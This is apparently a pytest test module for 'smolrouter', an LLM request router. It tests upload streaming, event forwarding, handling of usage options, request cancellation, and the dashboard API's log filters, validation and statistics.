    """Return one URL for all of these routers, so that they are shared."""
    return refusing_url()


def encode_blob(content: bytes, chunked: bool) -> bytes:
    """Encode the upload of a blob in either framing."""
    if not chunked:
        return encode_request("POST", BLOB, content)
    return encode_chunked_post(BLOB, *split_at(content, *range(50_000, len(content), 50_000)))


@contextlib.contextmanager
def begun_upload(router: Router, data: bytes) -> Iterator[tuple[socket.socket, socket.socket]]:
    """Send the beginning of an upload; give the client's socket and the server's, past the head."""
    with connect(router.port) as client:
        client.sendall(data)
        server, _ = blob_listener().accept()
        with server:
            server.settimeout(PATIENCE)
            # An octet at a time: what stands behind the head is for the test.
            head = b""
            while not head.endswith(b"\r\n\r\n"):
                head += server.recv(1)
            yield client, server


@pytest.mark.parametrize("chunked", (False, True), ids=("length", "chunks"))
@pytest.mark.parametrize("size", (0, 1, 1001, len(LONG_BLOB)))
def test_a_blob_of_any_length_arrives(size: int, chunked: bool) -> None:
    content = LONG_BLOB[:size]
    with Upstream(ollama_server) as upstream:
        table = {"servers": {"gpu": {"url": upstream.url, "api": "ollama"}}}
        with Router({"MAX_REQUEST_SIZE": 1000}, table) as router:
            before = memory_mib(router, "VmHWM")
            for _ in range(2):
                got = parse_response(send_raw(router.port, encode_blob(content, chunked)))
                assert got.status == 201
            assert memory_mib(router, "VmHWM") - before < 8
            row = wait_until(lambda: finished_row(router, BLOB))
            assert (row["request_size"], row["status_code"]) == (size, 201)
    for received in upstream.requests:
        assert (received.content, received.framing) == (content, "chunked" if chunked else "length")


def finished_row(router: Router, path: str) -> dict[str, Any] | None:
    """Return the newest row of a path once it is finished."""
    rows = [row for row in get_document(router, "/api/logs") if row["path"].startswith(path)]
    return rows[0] if rows and not rows[0]["is_inflight"] else None


@pytest.mark.parametrize("chunked", (False, True), ids=("length", "chunks"))
def test_a_blob_is_not_held(chunked: bool) -> None:
    """The server has the first octets before the client has said the last ones."""
    data = encode_blob(b"first and last", chunked)
    at = data.index(b" and last")
    with begun_upload(blob_router(), data[:at]) as (client, server):
        read_until(server, b"first")
        client.sendall(data[at:])
        read_until(server, b" and last")
        server.sendall(BLOB_DONE)
        assert parse_response(exchange(client)).status == 201


def test_a_server_that_reads_slowly_slows_the_client() -> None:
    data = encode_blob(LONG_BLOB, False)
    with begun_upload(blob_router(), data[:200]) as (client, server):
        client.settimeout(0.5)
        # The kernel's buffers take some MiB, the router's less than one.
        sent = 200
        with contextlib.suppress(TimeoutError):
            while sent < len(data):
                sent += client.send(data[sent : sent + 65536])
        assert sent < len(data)
        client.settimeout(PATIENCE)
        sending = threading.Thread(target=client.sendall, args=(data[sent:],))
        sending.start()
        received = 0
        while received < len(LONG_BLOB) - 200:
            piece = server.recv(1 << 20)
            assert piece, "the router has ended the connection"
            received += len(piece)
        sending.join(PATIENCE)
        server.sendall(BLOB_DONE)
        assert parse_response(exchange(client)).status == 201


@pytest.mark.parametrize("chunked", (False, True), ids=("length", "chunks"))
def test_a_server_may_answer_before_the_end_of_a_blob(chunked: bool) -> None:
    data = encode_blob(LONG_BLOB, chunked)
    refusal = whole_response(b'{"error":"no room"}', 507, kind="application/json")[0]
    with begun_upload(blob_router(), data[:1000]) as (client, server):
        server.sendall(refusal)
        got = parse_response(exchange(client, 0.1, data[1000:2000]))
        assert (got.status, got.json, got.get("Connection")) == (507, {"error": "no room"}, "close")
        # Its connection is not used again: the rest of the blob would be the next request.
        read_rest(server)


def read_rest(sock: socket.socket) -> bytes:
    """Read until the other side has ended the connection."""
    data = b""
    with contextlib.suppress(ConnectionError):
        while more := sock.recv(1 << 16):
            data += more
    return data


def test_a_server_that_breaks_off_a_blob_is_an_error() -> None:
    data = encode_blob(LONG_BLOB, False)
    with begun_upload(blob_router(), data[:1000]) as (client, server):
        reset_on_close(server)
        server.close()
        got = parse_response(exchange(client, 0.1, data[1000:2000]))
        assert got.status == 502
        check_error(BLOB, got)


def test_a_client_that_leaves_a_blob_ends_it() -> None:
    # Other tests have rows of their own in the same log.
    target = f"{BLOB}?left"
    data = encode_blob(LONG_BLOB, True).replace(BLOB.encode(), target.encode())
    with begun_upload(blob_router(), data[:1000]) as (client, server):
        client.close()
        rest = read_rest(server)
        assert not rest.endswith(b"0\r\n\r\n")
    row = wait_until(lambda: finished_row(blob_router(), target))
    assert row["status_code"] == 499


@pytest.mark.parametrize("rest, status", ((0.1, 408), (b"x\r\nbad", 400)))
def test_a_bad_client_of_a_blob_is_told(rest: Any, status: int) -> None:
    """One that says nothing for too long, and one whose chunks are none."""
    data = encode_chunked_post(BLOB, b"first", end=b"")
    with begun_upload(blob_router(content_grace=0.5), data) as (client, server):
        got = parse_response(exchange(client, rest, answers=0))
        assert (got.status, got.get("Connection")) == (status, "close")
        check_error(BLOB, got)
        assert not read_rest(server).endswith(b"0\r\n\r\n")


def test_a_blob_that_waits_for_our_word_gets_it() -> None:
    head = encode_request("POST", BLOB, None, [("Content-Length", "4"), ("Expect", "100-continue")])
    with begun_upload(blob_router(), head) as (client, server):
        read_until(client, b"HTTP/1.1 100 Continue\r\n\r\n")
        client.sendall(b"last")
        read_until(server, b"last")
        server.sendall(BLOB_DONE)
        assert parse_response(exchange(client)).status == 201


# --- content without a model ----------------------------------------------------------

MODELLESS_CONTENTS = {
    "empty": b"",
    "white space": b" \r\n",
    "null": b"null",
    "a string": b'"text"',
    "an array": b'[{"model": "gpt-4"}]',
    "an object without a model": b'{"n":1.0}',
    "an object behind a mark": b'\xef\xbb\xbf{"n":1.0}',
    "a mark alone": b"\xef\xbb\xbf",
    "no JSON": b"a=b",
}
MODELLESS_PATHS = ("/v1/responses/r1/cancel", "/v1/batches/b1/cancel", "/v1/rerank", "/v1/x")


@pytest.mark.parametrize("path", MODELLESS_PATHS)
@pytest.mark.parametrize("media_type", ("application/json", "text/plain", None))
@pytest.mark.parametrize("content", MODELLESS_CONTENTS.values(), ids=MODELLESS_CONTENTS)
def test_what_has_no_model_goes_on_unchanged(
    content: bytes, media_type: str | None, path: str
) -> None:
    mark = f"{path}?of={zlib.crc32(repr((content, media_type)).encode())}"
    fields = [("Content-Length", str(len(content)))]
    if media_type:
        fields.append(("Content-Type", media_type))
    data = encode_request("POST", mark, None, fields) + content
    got = parse_response(send_raw(default_router().port, data))
    assert got.status == 200
    (received,) = default_upstream().requests_for(mark)
    assert received.content == content
    assert received.get("Content-Type") == media_type


@pytest.mark.parametrize("path", (CHAT, "/v1/rerank", "/v1/responses", "/api/chat"))
def test_a_byte_order_mark_hides_no_model(path: str) -> None:
    """The content is routed by its model, and stays to the octet unless something changes."""
    table = {"routes": [{"match": {"model": "named"}, "route": {"model": "another"}}]}
    router = shared_router({"DEFAULT_UPSTREAM": default_upstream().url}, table)
    for asked, sent in (("named", "another"), (f"marked{path}", f"marked{path}")):
        document = {**EXAMPLE_REQUESTS.get(path, {}), "model": asked, "stream": False}
        content = b"\xef\xbb\xbf" + encode_json(document)
        got = request(router.port, "POST", path, content)
        assert got.status == 200
        received = default_upstream().requests[-1]
        assert json.loads(received.content)["model"] == sent
        if asked == sent and path != "/api/chat":
            assert received.content == content


# --- events leave as they come --------------------------------------------------------


def test_the_first_event_of_an_alias_does_not_wait_for_the_second() -> None:
    """Failover looks at the first event; what it has seen must leave at once."""
    gate = threading.Event()

    def script(received: Received) -> Iterator[Step]:
        yield from stream_response([encode_event(TWO_WORDS[0])], whole=False)
        gate.wait(PATIENCE)
        yield from encode_chunks(encode_event(TWO_WORDS[1]), encode_event(FINISH))

    with Upstream(script) as upstream:
        instances = ["box/tiny", "box/spare"]
        routes = {"servers": {"box": upstream.url}, "aliases": {"both": {"instances": instances}}}
        with Router(routes=routes) as router, connect(router.port) as sock:
            sock.sendall(encode_post(CHAT, chat_document("both", stream=True)))
            first = read_until(sock, b"one")
            gate.set()
            rest = read_until(sock, b"0\r\n\r\n")
    assert b"two" not in first and b"two" in rest


def test_coded_stream_of_an_alias_does_not_wait() -> None:
    """Its events cannot be told apart before it is decoded: its first octets are its begin."""
    gate = threading.Event()
    packer = zlib.compressobj(wbits=31)

    def script(received: Received) -> Iterator[Step]:
        data = packer.compress(encode_event({"n": 1})) + packer.flush(zlib.Z_SYNC_FLUSH)
        yield from stream_response([data], [("Content-Encoding", "gzip")], whole=False)
        gate.wait(PATIENCE)
        yield from encode_chunks(packer.flush())

    with Upstream() as one, Upstream() as two:
        # What the router asks by itself is answered by others.
        one.scripts[CHAT] = script
        with router_of_two(one.url, two.url) as router, connect(router.port) as sock:
            sock.sendall(encode_post(CHAT, chat_document("pair", stream=True)))
            assert read_until(sock, b'{"n":1}')
            gate.set()
            assert read_until(sock, b"0\r\n\r\n")


@pytest.mark.parametrize("path", [CHAT, "/v1/completions", "/api/chat", "/api/generate"])
def test_each_event_leaves_before_the_next_one_comes(path: str) -> None:
    gates = [threading.Event() for _ in range(4)]
    key = "text" if "chat" not in path else "delta"

    def script(received: Received) -> Iterator[Step]:
        yield from stream_response([], whole=False)
        for number, gate in enumerate(gates):
            text = f"number-{number} "
            said = text if key == "text" else {"content": text}
            yield from encode_chunks(encode_event({"choices": [{"index": 0, key: said}]}), end=b"")
            gate.wait(PATIENCE)
        yield from encode_chunks(encode_event("[DONE]"))

    model = default_upstream().add_script(script)
    with connect(default_router().port) as sock:
        sock.sendall(encode_post(path, {**EXAMPLE_REQUESTS[path], "model": model, "stream": True}))
        for number, gate in enumerate(gates):
            read_until(sock, b"number-%d " % number)
            gate.set()
        read_until(sock, b"0\r\n\r\n")


def timed_events(port: int, path: str, body: Any, fields: Pairs = ()) -> list[tuple[float, bytes]]:
    """Return the events of a streamed answer, each with the time when it was complete."""
    got = request(port, "POST", path, body, fields)
    mark = b"\n" if "ndjson" in (got.get("Content-Type") or "") else b"\n\n"
    events = []
    held = b""
    for moment, piece in got.pieces:
        *done, held = (held + piece).split(mark)
        events += [(moment, block) for block in done if block]
    return events


def test_fifty_streams_at_once_stay_apart() -> None:
    def one(number: int) -> tuple[str, float]:
        texts = [f"{number}.{n} " for n in range(20)]
        sent: dict[str, float] = {}

        def script(received: Received) -> Iterator[Step]:
            yield from stream_response(
                [encode_event(e) for e in text_deltas("<think>", "no", "</think>")], whole=False
            )
            for text in texts:
                yield from encode_chunks(encode_event(text_deltas(text)[0]), end=b"")
                sent[text] = time.monotonic()
                yield 0.02
            yield from encode_chunks(encode_event("[DONE]"))

        body = chat_document(default_upstream().add_script(script), stream=True)
        events = timed_events(default_router().port, CHAT, body)
        came = {
            json.loads(e[6:])["choices"][0]["delta"]["content"]: at
            for at, e in events
            if b'"content"' in e
        }
        assert [t for t in came if t] == texts
        assert events[-1][1] == b"data: [DONE]"
        return str(number), max(came[t] - sent[t] for t in texts)

    results = map_in_threads(one, range(50), workers=50)
    slowest = sorted(delay for _, delay in results)
    print(
        f"slowest event of a stream: {slowest[25] * 1e3:.1f} ms in the middle, "
        f"{slowest[-1] * 1e3:.1f} ms at worst"
    )
    assert slowest[25] < 1.0


@pytest.mark.parametrize("fault", ["framing", "reset", "head", "alias"])
def test_what_broke_off_leaves_memory_at_once(log_folder: LogFolder, fault: str) -> None:
    """No error keeps the octets it came through: the collector of cycles is not needed."""
    # The program never turns the collector on, because it is on.
    without_collector = (
        "import gc, runpy, sys; gc.disable(); "
        "sys.argv = sys.argv[1:]; runpy.run_path(sys.argv[0], run_name='__main__')"
    )
    chunk = b"%x\r\n%s\r\n" % (120_000, b"x" * 120_000)
    faults = {
        "framing": [
            response_head(200, [("Transfer-Encoding", "chunked")]) + chunk,
            0.01,
            chunk + b"zz\r\n",
        ],
        "reset": [
            response_head(200, [("Transfer-Encoding", "chunked")]) + chunk,
            0.01,
            chunk,
            0.01,
            DROP,
        ],
        "head": [b"HTTP/1.1 200 OK\r\nX: " + b"x" * 60_000 + b"\n\r\n"],
    }
    # The head is that of each instance of the alias.
    faults["alias"] = faults["head"]
    model = default_upstream().add_script(faults[fault])
    other = default_upstream().add_script(faults[fault])
    instances = [f"s/{model}", f"s/{other}"]
    routes = {
        "servers": {"s": default_upstream().url},
        "aliases": {"two": {"instances": instances}},
    }
    settings = {**log_folder.settings, "ENABLE_LOGGING": "false"}
    python = (sys.executable, "-c", without_collector)
    with Router(settings, routes, python=python) as router:
        for _ in range(2):
            before = memory_mib(router)
            for _ in range(60):
                with contextlib.suppress(OSError, http.client.HTTPException):
                    post_chat(router, "two" if fault == "alias" else model)
        assert memory_mib(router) < before + 3


# --- usage that nobody asked for ------------------------------------------------------

SPACED = b'data:{ "usage" : ' + RAW_USAGE + b', "choices" : [ ] }\n\n'
BESIDE = RAW_STOP.replace(b"]}", b'],"usage":' + RAW_USAGE + b"}")
QUOTED = RAW_WORD.replace(b"hi", b'\\"choices\\":[],\\"usage\\":{}')
# What the server says, and what a client gets that did not ask for usage.
SWALLOWED = {
    "plain": ([RAW_WORD, RAW_STOP, RAW_USAGE_EVENT, RAW_DONE], [RAW_WORD, RAW_STOP, RAW_DONE]),
    "spaced": ([RAW_WORD, RAW_STOP, SPACED, RAW_DONE], [RAW_WORD, RAW_STOP, RAW_DONE]),
    "without the extra event": ([RAW_WORD, RAW_STOP, RAW_DONE], [RAW_WORD, RAW_STOP, RAW_DONE]),
    "usage beside a choice": ([RAW_WORD, BESIDE, RAW_DONE], [RAW_WORD, RAW_STOP, RAW_DONE]),
    "usage before a choice": (
        [RAW_WORD.replace(b'"id"', b'"usage": ' + RAW_USAGE + b' , "id"'), RAW_STOP, RAW_DONE],
        [RAW_WORD, RAW_STOP, RAW_DONE],
    ),
    "comments": (
        [RAW_PING, RAW_WORD, RAW_STOP, RAW_USAGE_EVENT, RAW_DONE],
        [RAW_PING, RAW_WORD, RAW_STOP, RAW_DONE],
    ),
    "the words in the text": (
        [QUOTED, RAW_STOP, RAW_USAGE_EVENT, RAW_DONE],
        [QUOTED, RAW_STOP, RAW_DONE],
    ),
    "crlf": (
        [e.replace(b"\n", b"\r\n") for e in (RAW_WORD, RAW_STOP, RAW_USAGE_EVENT, RAW_DONE)],
        [e.replace(b"\n", b"\r\n") for e in (RAW_WORD, RAW_STOP, RAW_DONE)],
    ),
}


@pytest.mark.parametrize("said, seen", SWALLOWED.values(), ids=SWALLOWED)
@pytest.mark.parametrize("joined", (False, True), ids=("apart", "at once"))
def test_extra_usage_is_swallowed(said: list[bytes], seen: list[bytes], joined: bool) -> None:
    model = sdk_upstream().add_script(sse_response([b"".join(said)] if joined else said))
    got = post_json("/v1/chat/completions", chat_document(model, stream=True))
    assert last_request().json["stream_options"] == {"include_usage": True}
    assert got.content == b"".join(seen)


def test_usage_in_every_event_is_seen_only_if_it_was_asked_for() -> None:
    """As llama.cpp says it on /v1/completions: zeros until the end."""
    zeros = {"prompt_tokens": 0, "completion_tokens": 0, "total_tokens": 0}
    texts = [{"choices": [{"index": 0, "text": t, "finish_reason": None}]} for t in ("<b>", "Hi")]
    end = {"choices": [{"index": 0, "text": "", "finish_reason": "length"}]}
    events = [{**event, "usage": zeros, "timings": None} for event in (*texts, end)]
    model = sdk_upstream().add_script(sse_response([*events, RAW_USAGE_EVENT, "[DONE]"]))
    asked = {"model": model, "prompt": "hi", "stream": True}
    got = post_json("/v1/completions", asked)
    expected = [{**event, "timings": None} for event in (*texts, end)]
    assert got.content == b"".join(map(encode_event, [*expected, "[DONE]"]))
    got = post_json("/v1/completions", {**asked, "stream_options": {"include_usage": True}})
    assert got.content == b"".join(map(encode_event, [*events, RAW_USAGE_EVENT, "[DONE]"]))


def timing_server(received: Received) -> Iterable[Step]:
    """Answer as llama.cpp does: timings are in the finish, or in the usage when asked for."""
    timings = b'"timings":{"prompt_n":3,"predicted_n":2},'
    if b'"stream_options"' in received.content:
        return sse_response(
            [
                RAW_WORD,
                RAW_STOP,
                RAW_USAGE_EVENT.replace(b'"usage"', timings + b'"usage"'),
                RAW_DONE,
            ]
        )
    return sse_response(
        [RAW_WORD, RAW_STOP.replace(b'"choices"', timings + b'"choices"'), RAW_DONE]
    )


def test_server_that_tells_timings_is_not_asked_for_usage(log_folder: LogFolder) -> None:
    upstream = Upstream(timing_server)
    settings = {**log_folder.settings, "DEFAULT_UPSTREAM": upstream.url}
    with upstream, Router(settings) as router:
        got = [post_chat(router, "m", stream=True).content for _ in range(3)]
        assert log_folder.wait_for_rows(3) == 3
    assert got[0] == RAW_WORD + RAW_STOP + RAW_DONE
    assert got[1] == got[2] != got[0] and b'"predicted_n":2' in got[1]
    rows = log_folder.select(
        "SELECT prompt_tokens, completion_tokens, tokens_estimated FROM requests"
    )
    assert rows[1:] == [(3, 2, 0)] * 2


def test_server_that_tells_timings_no_more_is_asked_for_usage() -> None:
    """Another one on its port, or behind one address for several."""
    moods = [timing_server, timing_server, well_behaved, well_behaved]
    upstream = Upstream(lambda received: moods.pop(0)(received))
    # What the router asks by itself changes no mood.
    upstream.scripts |= {"/": well_behaved, "/v1/models": well_behaved}
    asked = []
    with upstream, Router({"DEFAULT_UPSTREAM": upstream.url}) as router:
        for _ in range(4):
            assert post_chat(router, "m", stream=True).status == 200
            asked.append("stream_options" in last_request(upstream).json)
    assert asked == [True, False, False, True]


@pytest.mark.parametrize("said", [s for s, _ in SWALLOWED.values()], ids=SWALLOWED)
def test_usage_that_was_asked_for_arrives(said: list[bytes]) -> None:
    model = sdk_upstream().add_script(sse_response(said))
    options = {"include_usage": True}
    got = post_json(
        "/v1/chat/completions", chat_document(model, stream=True, stream_options=options)
    )
    assert got.content == b"".join(said)


@pytest.mark.parametrize("options", ({}, {"include_usage": False}, {"other": 1}, None), ids=repr)
def test_stream_options_without_usage_are_no_wish(options: Any) -> None:
    model = sdk_upstream().add_script(sse_response([RAW_WORD, RAW_STOP, RAW_USAGE_EVENT, RAW_DONE]))
    got = post_json(
        "/v1/chat/completions", chat_document(model, stream=True, stream_options=options)
    )
    assert got.content == RAW_WORD + RAW_STOP + RAW_DONE
    assert last_request().json["stream_options"] == {**(options or {}), "include_usage": True}
    assert last_request().content.count(b'"stream_options"') == 1


def test_whole_answers_are_not_asked_for_usage() -> None:
    assert post_json("/v1/chat/completions", chat_document("talk", stream=False)).status == 200
    assert "stream_options" not in last_request().json


def old_server(received: Received) -> Iterable[Step]:
    """Answer as a server from before `stream_options`: with an error that names it."""
    if b'"stream_options"' in received.content:
        message = "Unrecognized request argument supplied: stream_options"
        return json_response({"error": {"message": message}}, 400)
    return well_behaved(received)


def test_server_that_refuses_stream_options_is_remembered() -> None:
    upstream = Upstream(old_server)
    with upstream, Router({"DEFAULT_UPSTREAM": upstream.url}) as router:
        for _ in range(3):
            body = chat_document("m", "hello", stream=True)
            got = post_json("/v1/chat/completions", body, router)
            assert (got.status, got.text) == (200, HELLO_ANSWER)
        asked = ["stream_options" in r.json for r in upstream.requests if r.content]
    assert asked == [True, False, False, False]


@pytest.mark.parametrize("status", [400, 422])
def test_server_that_echoes_a_bad_request_is_asked_for_usage_again(status: int) -> None:
    def script(received: Received) -> Iterable[Step]:
        if last_text(received.json or {}) == "bad":
            told = {"detail": "no such word in " + received.content.decode(), "x": "y" * (2 << 20)}
            return json_response(told, status)
        return well_behaved(received)

    with Upstream(script) as upstream, Router({"DEFAULT_UPSTREAM": upstream.url}) as router:
        for text in ("bad", "good"):
            got = post_json("/v1/chat/completions", chat_document("m", text, stream=True), router)
            assert got.status == (status if text == "bad" else 200)
            assert text == "good" or "no such word" in got.json["detail"]
            assert "stream_options" in upstream.requests_for(f'"{text}"')[0].json
    assert "stream_options" not in upstream.requests_for('"bad"')[1].json


@whole_or_streamed
def test_other_bad_requests_are_not_asked_again(stream: bool) -> None:
    text = "an error that comes once"
    got = post_json("/v1/chat/completions", chat_document("error-400", text, stream=stream))
    assert (got.status, got.content) == (400, encode_json(own_error(400)))
    assert len([r for r in sdk_upstream().requests_for(text) if r.json["stream"] == stream]) == 1


# ======================================================================================
# 15  Dashboard and API
# ======================================================================================
# What the page asks, and what others may: lists, figures, events, metrics, export. A new query
# gets a case in `test_no_query_walks_the_log`.

# --- running requests -----------------------------------------------------------------


def test_cancel_ends_a_request() -> None:
    for stream in (False, True):
        begin = [encode_event(text_delta("one "))] if stream else []
        model = default_upstream().add_script(
            [*stream_response(begin, whole=False), HANG] if stream else [HANG]
        )
        with concurrent.futures.ThreadPoolExecutor(1) as pool:
            asking = pool.submit(post_chat, logging_router(), model, stream=stream)
            running = wait_until(
                lambda: [
                    r
                    for r in get_document(logging_router(), "/api/inflight")
                    if r["original_model"] == model
                    and r["phase"] == ("streaming" if stream else "waiting")
                ]
            )
            detail = get_document(logging_router(), f"/api/request/{running[0]['id']}")
            assert detail["is_inflight"] and detail["completed_at"] is None
            path = f"/api/inflight/{running[0]['id']}/cancel"
            got = request(logging_router().port, "POST", path)
            assert (got.status, got.content) == (200, b'{"cancelled":true}')
            answered = asking.result(PATIENCE)
            assert b'"code":"cancelled"' in answered.content
            assert answered.status == (200 if stream else 499)
        row = wait_for_row(logging_router(), model)
        assert (row["status_code"], row["error_message"]) == (499, "cancelled")
        assert request(logging_router().port, "POST", path).status == 404
        wait_until(lambda: default_upstream().connection_of(model).closed)
        assert default_upstream().connection_of(model).closed
    for path in ("/api/inflight/x/cancel", "/api/inflight/1/cancel"):
        assert request(logging_router().port, "POST", path).status == 404


def test_running_stream_is_counted_while_it_runs() -> None:
    gate = threading.Event()

    def script(received: Received) -> Iterator[Step]:
        yield from stream_response(map(encode_event, TWO_WORDS), whole=False)
        gate.wait(PATIENCE)
        yield from encode_chunks(encode_event(FINISH))

    with router_and_upstream(script) as (router, _), connect(router.port) as sock:
        sock.sendall(encode_post(CHAT, chat_document("tiny", stream=True)))
        read_until(sock, b"two")
        rows = request(router.port, "GET", "/api/inflight").json
        gate.set()
        read_until(sock, b"0\r\n\r\n")
    assert [(row["phase"], row["tokens"]) for row in rows] == [("streaming", 2)]
    assert rows[0]["bytes"] > 100
    assert rows[0]["text"] == "one two" and rows[0]["ttft_ms"] <= rows[0]["elapsed_ms"]


def test_last_words_of_an_answer_that_runs() -> None:
    """However it comes in pieces; of a long one only the end is looked at."""
    event = encode_event(text_delta("word "))
    thought = encode_event({"choices": [{"index": 0, "delta": {"reasoning_content": "Hm"}}]})
    line = encode_json({"message": {"role": "assistant", "content": "word "}}) + b"\n"
    cases: list[tuple[list[bytes | bytearray], str]] = [
        ([], ""),
        ([b": ping\n\n"], ""),
        ([thought], "Hm"),
        ([thought, event], "word "),
        ([event[:20], bytearray(event[20:] + event[:30])], "word "),
        ([line] * 3, "word " * 3),
        ([bytearray(event * 1000)], "word " * 24),
        ([bytearray(event * 3)] * 1000, "word " * 24),
    ]
    for pieces, text in cases:
        found = smolrouter.read_last_text(pieces)
        # The end of 4 KiB may begin within an event, and hold fewer words.
        assert text.endswith(found) and bool(found) == bool(text), (pieces[:2], found)


# --- questions to the log -------------------------------------------------------------


@functools.cache
def router_with_old_log() -> Router:
    """Return a router on a log that was made for it: 4,000 rows over three days."""
    log_folder = LogFolder(pathlib.Path(tempfile.mkdtemp(prefix="smol-")))
    AT_SESSION_END.callback(shutil.rmtree, log_folder.file.parent, True)
    store = make_store(log_folder.file.parent)
    tallies: Any = {}
    rows = []
    for number in range(4000):
        chance = zlib.crc32(b"%d" % number) | 1 << 20
        more = {
            "sent_model": f"model-{number % 4}",
            "mapped_model": "mapped",
            "source_ip": f"10.0.0.{number % 5}",
            "original_model": "nick" if number % 40 == 0 else f"model-{number % 4}",
            "duration_ms": 10.0 + number % 100,
            "level": (chance & -chance).bit_length() - 1,
        }
        if number % 10 == 3:
            more |= {"status_code": 404 if number % 20 == 3 else 502, "failed": 1}
        if number % 3 == 0:
            more |= {"service_type": "ollama", "stream": 1, "ttft_ms": 5.0}
        row = make_row(number, 3 * (1 - number / 4000), **more)
        smolrouter.add_row(tallies, row)
        rows.append(row)
    store.write(rows, [], tallies)
    store.close()
    router = Router(log_folder.settings)
    AT_SESSION_END.callback(router.kill)
    return router


def test_lists_are_paged_by_key() -> None:
    seen: list[int] = []
    while page := get_document(
        router_with_old_log(), f"/api/logs?limit=700&before={seen[-1] if seen else ''}"
    ):
        seen += [row["id"] for row in page]
    assert len(seen) == 4000 and seen == sorted(set(seen), reverse=True)
    assert len(get_document(router_with_old_log(), "/api/logs")) == 100


FILTERS = [
    # query, rows of 4,000
    ("model=model-1", 1000), ("model=nick", 100), ("model=nobody", 0),
    ("service_type=ollama", 1334),
    ("service_type=OLLAMA", 1334), ("status=error", 400), ("status=404", 200), ("status=4xx", 200),
    ("status=502", 200), ("status=5xx", 200), ("status=200", 3600), ("status=2xx", 3600),
    ("source=10.0.0.2", 800), ("upstream=http%3A%2F%2Fbox%3A1", 4000), ("upstream=http://no", 0),
    ("upstream=box:1", 4000), ("upstream=http://box:1/v1/", 4000), ("upstream=no+such+server", 0),
    ("model=model-3&status=error", 200), ("model=model-3&source=10.0.0.3&status=404", 200),
    ("model=nick&service_type=ollama", 34), ("source=10.0.0.0&model=nick", 100),
    ("q=NICK", 100), ("q=model-2&status=error", 0), ("q=%25", 0), ("q=_", 0), ("q=10.0.0.4", 800),
    ("q=10.0.0.4+MODEL-2", 200), ("q=model-2++10.0.0.4+default+/v1/", 200), ("q=model-2+nick", 0),
    ("q=%25+model", 0), ("q=+" + "model+" * 7 + "POST+model", 0), ("q=mapped+10.0.0.4", 800),
    ("model=&status=&q=", 4000), ("status=running", 0),
    ("begin=0", 4000), ("end=5", 0), ("begin=5&end=9999999999999&status=404", 200),
]  # fmt: skip


@pytest.mark.parametrize("query, count", FILTERS)
def test_filters(query: str, count: int) -> None:
    page = get_document(router_with_old_log(), f"/api/logs?limit=1000&{query}")
    assert len(page) == min(count, 1000)
    ids = [row["id"] for row in page]
    assert ids == sorted(ids, reverse=True)


@pytest.mark.parametrize("path, word", [
    ("/api/logs?limit=0", "limit"), ("/api/logs?limit=1e9", "whole number"),
    ("/api/logs?limit=1001", "1000"), ("/api/logs?before=x", "before"),
    ("/api/logs?before=99999999999999999999", "before"), ("/api/logs?status=6xx", "4xx"),
    ("/api/logs?status=%D9%A4%D9%A0%D9%A4", "4xx"), ("/api/logs?service_type=bing", "openai"),
    ("/api/logs?color=red", "color"), ("/api/stats?hours=0", "hours"),
    ("/api/stats?hours=1.5", "whole number"), ("/api/performance?limit=-1", "limit"),
    ("/api/performance?hours=99999", "hours"), ("/api/export?since=1y", "7d"),
    ("/api/export?format=xml", "jsonl"), ("/api/logs?model=%00", "model"),
    ("/api/routes?source_host=banana", "IPv4 or IPv6 address"),
    ("/api/routes?model=x&source_host=10.0.0.0/8", "IPv4 or IPv6 address"),
])  # fmt: skip
def test_bad_parameters(path: str, word: str) -> None:
    got = request(router_with_old_log().port, "GET", path)
    assert got.status == 400 and word in json.loads(got.content)["error"]["message"]


@pytest.mark.parametrize("number", ["1", "0", "-1", "x", "99999999999999999999", "1/2", "%31"])
def test_unknown_requests(number: str) -> None:
    for prefix in ("/api/request", "/request"):
        assert request(router_with_old_log().port, "GET", f"{prefix}/{number}").status == 404


def test_stats_add_up() -> None:
    stats = get_document(router_with_old_log(), "/api/stats?hours=24")
    assert stats["total_requests"] == 4000
    assert (stats["openai_requests"], stats["ollama_requests"]) == (2666, 1334)
    assert len(stats["requests_per_hour"]) == 24
    assert sum(stats["requests_per_hour"]) == stats["recent_requests"]
    assert 1250 < stats["recent_requests"] < 1400 and stats["inflight_requests"] == 0
    assert stats["error_rate"] == pytest.approx(0.1, abs=0.01)
    assert 50 < stats["latency_ms"]["p50"] < 75 and 95 < stats["latency_ms"]["p95"] < 128
    assert stats["latency_ms"]["p50"] <= stats["latency_ms"]["p95"] <= stats["latency_ms"]["p99"]
    assert 4 <= stats["ttft_ms"]["p50"] <= 5.7
    assert stats["prompt_tokens"] == 5 * stats["recent_requests"]
    assert stats["log"] == {"enabled": True, "error": None, "notice": None, "backlog": 0, "lost": 0}
    week = get_document(router_with_old_log(), "/api/stats?hours=168")
    assert week["recent_requests"] == 4000 and len(week["requests_per_hour"]) == 168


class LogOfRows:
    """What the functions that answer the page's questions need of a log where nothing runs."""

    running: Mapping[int, Any] = {}

    def state(self) -> dict[str, Any]:
        """Return nothing about a thread that is not there."""
        return {}


@pytest.mark.parametrize("minute", [0, 1, 29, 30, 31, 59])
def test_hours_are_one_window_to_the_minute(
    tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch, minute: int
) -> None:
    """Whatever part of an hour its begin cuts, sums, points, servers and exports have it alike."""
    now = (time.time() // 3600) * 3600 + minute * 60 + 0.5
    monkeypatch.setattr(time, "time", lambda: now)
    store = make_store(tmp_path)
    ages = [0, 59, 61, 119, 121, *range(200, 1000, 7), 1439, 1441, 1499, 1501, 2879, 2881]
    rows = []
    for number, age in enumerate(ages):
        more = {
            "sent_model": f"m{number % 3}",
            "service_type": ("openai", "ollama")[number % 5 == 0],
            "failed": number % 2,
            "duration_ms": 1.0 + number,
        }
        rows.append(make_row(number, age / 1440, **more))
    store.write(rows, [], smolrouter.sum_rows(rows))
    store.close()
    log = LogOfRows()
    for hours in (1, 2, 24, 25, 48):
        given = {"hours": hours}
        count = sum(age < hours * 60 for age in ages)
        inside = rows[:count]
        with smolrouter.open_for_reading(store.path) as db:
            stats = smolrouter.read_stats(log, db, given)
            doc = smolrouter.read_performance(log, db, given)
            by_service = smolrouter.read_performance(log, db, {**given, "service_type": "ollama"})
            one_model = smolrouter.read_performance(log, db, {**given, "model": "m1"})
            page, _ = smolrouter.export_page(store, db, {"since": hours * 3600, "format": "csv"})
            last_hour = smolrouter.read_last_hour(log, db, "http://box:1")
        assert stats["recent_requests"] == count
        assert stats["error_rate"] == pytest.approx(sum(row.failed for row in inside) / count)
        assert stats["completion_tokens"] == 6 * count
        assert len(stats["requests_per_hour"]) == hours and sum(stats["requests_per_hour"]) == count
